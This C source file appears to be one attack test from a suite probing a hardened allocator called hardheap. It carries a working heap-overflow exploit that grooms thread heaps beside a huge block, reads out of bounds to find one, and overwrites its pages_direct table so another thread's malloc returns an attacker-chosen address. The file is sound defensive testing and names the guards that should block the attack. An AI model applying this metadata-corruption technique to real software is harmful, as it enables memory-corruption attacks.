/* overflow_thread_heap: linear overflow off the end of a huge block into the
 * heap structure of another thread (its pages_direct table).
 *
 * Bug modelled: a write of 40 bytes past the end of a huge block. A new
 * thread's heap (hh_thread_data_t: heap + tld, one 4 KiB page) is mapped
 * right after the previous hardheap mapping, and the heap starts with
 * tld (8 bytes) and pages_direct[65] (size in 16-byte units -> page).
 *
 * Steps:
 *  1. Start a thread, allocate a huge block H of exactly one segment, then
 *     let the thread's first malloc map its heap; repeat until it landed right
 *     after H: an out-of-bounds read of the word after H then gives &td->tld
 *     (3680 bytes further). msync() is used only to skip candidates whose
 *     next page is unmapped, so the confirming read cannot fault.
 *  2. Build a fake page descriptor inside H (attacker data): free = &target,
 *     keys = {&target, 0} (target's first word 0 decodes to NULL).
 *  3. Overflow 40 bytes: tld (its predictable value) and pages_direct[0..3]
 *     := the fake descriptor.
 *  4. The thread calls malloc(48).
 * WIN: the thread's malloc returns &target, a global chosen by the attacker.
 * Defence that should stop it: guard pages around thread heap mappings (or
 * heaps in a separate region away from segments); pages_direct entries
 * checked to point into a segment's descriptor array. */
/* ---- harness (every attack file carries its own copy) ------------------- */
#define _GNU_SOURCE
#include <malloc.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define MIB ((uintptr_t)1 << 20)
#define SEG ((uintptr_t)4 << 20) /* hardheap segment size and alignment */

static void say(const char* prefix, const char* fmt, va_list ap) {
  char buf[600];
  int n = snprintf(buf, sizeof buf, "%s", prefix);
  int m = vsnprintf(buf + n, sizeof buf - (size_t)n - 1, fmt, ap);
  if (m < 0) m = 0;
  n += m;
  if (n > (int)sizeof buf - 2) n = (int)sizeof buf - 2;
  buf[n++] = '\n';
  if (write(1, buf, (size_t)n) < 0) _exit(5);
}
__attribute__((unused)) static void note(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("note: ", fmt, ap);
  va_end(ap);
}
__attribute__((unused)) static _Noreturn void win(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("ATTACK WIN: ", fmt, ap);
  va_end(ap);
  _exit(0);
}
__attribute__((unused)) static _Noreturn void lost(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("ATTACK LOST: ", fmt, ap);
  va_end(ap);
  _exit(3);
}
static void on_alarm(int sig) {
  (void)sig;
  static const char msg[] = "ATTACK HANG: the allocator did not return within the time limit\n";
  if (write(1, msg, sizeof msg - 1) < 0) _exit(5);
  _exit(4);
}
static void start(unsigned seconds) {
  signal(SIGALRM, on_alarm);
  alarm(seconds);
}
/* Pointers go through a volatile slot so the compiler cannot see the
 * use-after-free or the bad free (the bug being modelled). */
static void* volatile launder_slot;
__attribute__((unused)) static void* hide(void* p) {
  launder_slot = p;
  return launder_slot;
}
__attribute__((unused)) static uintptr_t peek(const void* p) { return *(const volatile uintptr_t*)p; }
__attribute__((unused)) static void poke(void* p, uintptr_t v) { *(volatile uintptr_t*)p = v; }
/* ------------------------------------------------------------------------- */
#include <pthread.h>
#include <sys/mman.h>
#include <sched.h>
#include <stdatomic.h>

static uintptr_t target[8] __attribute__((aligned(64)));
static _Atomic int init[32], ready[32], go[32];
static void* result[32];

static void* worker(void* arg) {
  int i = (int)(intptr_t)arg;
  while (atomic_load(&init[i]) == 0) sched_yield();
  void* first = hide(malloc(16)); /* maps this thread's heap (hide: not elided) */
  atomic_store(&ready[i], 1);
  while (atomic_load(&go[i]) == 0) sched_yield();
  if (atomic_load(&go[i]) == 2) result[i] = malloc(48);
  free(first);
  return NULL;
}

int main(void) {
  start(10);
  char* probe = malloc(3 * MIB);
  size_t info = (uintptr_t)probe & (SEG - 1);
  free(hide(probe));

  pthread_t th[32];
  int n = 0, hit = -1;
  char* src = NULL;
  for (; n < 32 && hit < 0; n++) {
    /* the thread is started first (its stack is mapped by libc), then H is
     * mapped, then the thread's first malloc maps its heap at hardheap's
     * next-mapping hint, the end of H */
    if (pthread_create(&th[n], NULL, worker, (void*)(intptr_t)n) != 0) lost("pthread_create failed");
    char* h = malloc(SEG - info);
    uintptr_t end = (uintptr_t)h + malloc_usable_size(h);
    atomic_store(&init[n], 1);
    while (atomic_load(&ready[n]) == 0) sched_yield();
    /* msync only asks the kernel whether the page after H is mapped, so the
     * confirming out-of-bounds read cannot fault */
    if ((end & (SEG - 1)) == 0 && msync((void*)end, 4096, MS_ASYNC) == 0 && peek((void*)end) == end + 3680) {
      hit = n;
      src = h;
    }
  }
  if (hit < 0) {
    for (int i = 0; i < n; i++) {
      atomic_store(&go[i], 1);
      pthread_join(th[i], NULL);
    }
    lost("no thread heap was mapped right after a huge block");
  }
  uintptr_t end = (uintptr_t)src + malloc_usable_size(src);
  note("thread %d's heap is at %p, right after huge block %p", hit, (void*)end, (void*)src);

  unsigned char* fake = (unsigned char*)src; /* 128-byte fake descriptor in attacker memory */
  memset(fake, 0, 128);
  uintptr_t v;
  v = (uintptr_t)target; memcpy(fake + 0, &v, 8);   /* free */
  v = 48;                memcpy(fake + 32, &v, 8);  /* block_size */
  v = (uintptr_t)target; memcpy(fake + 40, &v, 8);  /* page_start */
  uint32_t u = 1;        memcpy(fake + 48, &u, 4); memcpy(fake + 52, &u, 4);
  v = (uintptr_t)target; memcpy(fake + 72, &v, 8);  /* keys[0]; keys[1] = 0 */

  uintptr_t ov[5] = {end + 3680, (uintptr_t)fake, (uintptr_t)fake, (uintptr_t)fake, (uintptr_t)fake};
  memcpy((void*)end, ov, sizeof ov); /* the 40-byte overflow */

  for (int i = 0; i < n; i++) atomic_store(&go[i], i == hit ? 2 : 1);
  pthread_join(th[hit], NULL);
  void* r = hide(result[hit]);
  if (r == (void*)target) win("the other thread's malloc(48) returned %p, a global chosen by the attacker", r);
  lost("the other thread's malloc(48) returned %p", r);
}
